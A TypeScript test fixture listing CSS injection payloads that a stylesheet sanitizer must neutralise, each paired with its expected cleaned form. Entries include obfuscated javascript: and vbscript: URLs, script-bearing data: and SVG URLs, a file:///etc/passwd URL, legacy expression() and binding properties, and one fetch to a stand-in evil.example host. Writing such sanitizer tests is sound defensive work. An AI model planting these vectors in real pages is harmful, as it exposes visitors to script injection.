/**
 * Stylesheets that spell a code-running URL every way CSS allows, each with the text the sanitizer must make of it:
 * shared by the sanitizer's unit tests, its tests per CSS carrier and the hostile ingest tests.
 */

export const svgBase64 = (svg: string) => `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
/** Bootstrap 5's select arrow: the kind of SVG icon stores draw in CSS, which must survive. */
export const BOOTSTRAP_ARROW =
  "data:image/svg+xml,%3csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 16 16'%3e%3cpath fill='none' stroke='%23343a40' stroke-linecap='round' stroke-linejoin='round' stroke-width='2' d='m2 5 6 6 6-6'/%3e%3c/svg%3e";

/** Every way a stylesheet can spell a URL that runs code, each with the text it must become. */
export const CSS_ATTACKS: Array<{ name: string; css: string; clean: string }> = [
  { name: 'unquoted', css: 'b{background:url(javascript:alert%281%29)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'double quotes', css: 'b{background:url("javascript:alert(1)")}', clean: 'b{background:url("about:invalid")}' },
  { name: 'single quotes', css: "b{background:url('javascript:alert(1)')}", clean: 'b{background:url("about:invalid")}' },
  // A quote makes an unquoted url() bad (the browser drops it); it is replaced up to its balancing `)`.
  { name: 'a quote inside an unquoted URL', css: "b{background:url(javascript:alert('x'))}", clean: 'b{background:url("about:invalid")}' },
  { name: 'a double quote inside an unquoted URL', css: 'b{background:url(javascript:alert("x"))}', clean: 'b{background:url("about:invalid")}' },
  {
    name: 'several calls inside an unquoted URL',
    css: "b{background:url(javascript:alert('x');fetch('https://evil.example/'))}",
    clean: 'b{background:url("about:invalid")}',
  },
  { name: 'an unbalanced bad URL', css: "b{background:url(javascript:alert('x')} i{color:red}", clean: 'b{background:url("about:invalid")} i{color:red}' },
  { name: 'single quotes inside double quotes', css: `b{background:url("javascript:alert('x')")}`, clean: 'b{background:url("about:invalid")}' },
  { name: 'escaped quotes inside quotes', css: 'b{background:url("javascript:alert(\\"x\\")")}', clean: 'b{background:url("about:invalid")}' },
  { name: 'a hex escape (\\6a avascript)', css: 'b{background:url(\\6a avascript:x)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'a character escape (java\\script)', css: 'b{background:url(java\\script:x)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'an escape inside quotes', css: 'b{background:url("java\\73 cript:x")}', clean: 'b{background:url("about:invalid")}' },
  { name: 'an escaped url( name', css: 'b{background:\\75 rl(javascript:x)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'spaces inside url( )', css: 'b{background:url(   javascript:x   )}', clean: 'b{background:url("about:invalid")}' },
  { name: 'newlines inside url( )', css: 'b{background:url(\n"javascript:x"\n)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'a tab inside the scheme', css: 'b{background:url("java\tscript:x")}', clean: 'b{background:url("about:invalid")}' },
  { name: 'a newline escape inside the scheme', css: 'b{background:url("java\\\nscript:x")}', clean: 'b{background:url("about:invalid")}' },
  { name: 'a comment before the URL', css: 'b{background:url(/**/javascript:x)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'a comment after a quoted URL', css: 'b{background:url("javascript:x" /* c */)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'upper case URL(', css: 'b{background:URL(javascript:x)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'mixed case scheme', css: 'b{background:Url("JaVaScRiPt:x")}', clean: 'b{background:url("about:invalid")}' },
  { name: 'vbscript:', css: "b{background:url('vbscript:x')}", clean: 'b{background:url("about:invalid")}' },
  { name: 'file:', css: 'b{background:url(file:///etc/passwd)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'blob:', css: 'b{background:url(blob:https://shop.example/1)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'a custom property', css: 'b{--bg:url(javascript:x)}', clean: 'b{--bg:url("about:invalid")}' },
  { name: 'a malformed url() (space inside)', css: 'b{background:url(java script:x)}', clean: 'b{background:url("about:invalid")}' },
  {
    name: 'image-set() strings and urls',
    css: 'b{background:image-set("javascript:x" 1x, url(javascript:y) 2x)}',
    clean: 'b{background:image-set("about:invalid" 1x, url("about:invalid") 2x)}',
  },
  { name: '-webkit-image-set()', css: "b{background:-webkit-image-set('vbscript:x' 1x)}", clean: 'b{background:-webkit-image-set("about:invalid" 1x)}' },
  { name: '@import "…"', css: '@import "javascript:x";', clean: '@import "about:invalid";' },
  { name: "@import '…' with media", css: "@import 'javascript:x' screen;", clean: '@import "about:invalid" screen;' },
  { name: '@import url(…)', css: '@import url(javascript:x);', clean: '@import url("about:invalid");' },
  { name: '@IMPORT in capitals', css: '@IMPORT "javascript:x";', clean: '@IMPORT "about:invalid";' },
  { name: 'an escaped @import', css: '@\\69mport "javascript:x";', clean: '@\\69mport "about:invalid";' },
  { name: '@import with a comment', css: '@import /* c */ "javascript:x";', clean: '@import /* c */ "about:invalid";' },
  {
    name: '@font-face src',
    css: '@font-face{font-family:f;src:local("f"),url(javascript:x) format("woff")}',
    clean: '@font-face{font-family:f;src:local("f"),url("about:invalid") format("woff")}',
  },
  { name: 'data:text/html', css: 'b{background:url("data:text/html,<script>alert(1)</script>")}', clean: 'b{background:url("about:invalid")}' },
  { name: 'base64 data:text/html', css: 'b{background:url(data:text/html;base64,PHNjcmlwdD4=)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'data:application/xhtml+xml', css: 'b{background:url("data:application/xhtml+xml,<x/>")}', clean: 'b{background:url("about:invalid")}' },
  { name: 'data:text/css', css: '@import url(data:text/css,b{color:red});', clean: '@import url("about:invalid");' },
  { name: 'data: without a type', css: 'b{background:url(data:,x)}', clean: 'b{background:url("about:invalid")}' },
  { name: 'an SVG with an event handler', css: `b{background:url("data:image/svg+xml,<svg onload='alert(1)'/>")}`, clean: 'b{background:url("about:invalid")}' },
  { name: 'a base64 SVG with a script', css: `b{background:url(${svgBase64('<svg><script>alert(1)</script></svg>')})}`, clean: 'b{background:url("about:invalid")}' },
  {
    name: 'a percent-encoded SVG with foreignObject',
    css: 'b{background:url("data:image/svg+xml,%3Csvg%3E%3CforeignObject/%3E%3C/svg%3E")}',
    clean: 'b{background:url("about:invalid")}',
  },
  { name: 'expression()', css: 'b{width:expression(alert(1))}', clean: 'b{width:blocked(alert(1))}' },
  { name: 'EXPRESSION with a space', css: 'b{width:EXPRESSION (alert(1))}', clean: 'b{width:blocked (alert(1))}' },
  { name: 'expression split by a comment', css: 'b{width:expr/**/ession(alert(1))}', clean: 'b{width:blocked(alert(1))}' },
  { name: 'an escaped expression', css: 'b{width:expr\\65ssion(alert(1))}', clean: 'b{width:blocked(alert(1))}' },
  { name: '-moz-binding', css: 'b{-moz-binding:url(x.xml#x)}', clean: 'b{-blocked-binding:url(x.xml#x)}' },
  { name: '-MOZ-BINDING with a space', css: 'b{-MOZ-BINDING :url(x.xml#x)}', clean: 'b{-blocked-binding :url(x.xml#x)}' },
  { name: 'behavior:', css: 'b{behavior:url(x.htc)}', clean: 'b{blocked-behavior:url(x.htc)}' },
  { name: '-ms-behavior:', css: 'b{-ms-behavior:url(x.htc)}', clean: 'b{blocked-behavior:url(x.htc)}' },
  { name: 'an escaped behavior', css: 'b{behav\\69or:url(x.htc)}', clean: 'b{blocked-behavior:url(x.htc)}' },
];
